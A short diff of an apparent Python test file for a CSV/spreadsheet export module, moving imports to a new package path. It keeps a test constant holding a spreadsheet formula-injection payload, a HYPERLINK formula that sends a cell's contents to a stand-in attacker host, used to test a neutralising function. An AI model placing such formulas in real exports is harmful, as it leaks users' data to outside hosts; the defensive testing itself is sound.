@@ -8,8 +8,8 @@ from datetime import datetime, timezone
 import openpyxl
 import pytest
 
-from app import tabular
-from app.tabular import TabularError, neutralise
+from app.platform import tabular
+from app.platform.tabular import TabularError, neutralise
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -122,7 +122,7 @@ def test_csv_reader_picks_the_heading_lines_separator():
 
 
 def test_csv_download_names_its_charset_once(app):
-    from app.tabular import csv_response
+    from app.platform.tabular import csv_response
 
     with app.test_request_context("/"):
         response = csv_response([["a"]], ["h"], "x.csv")
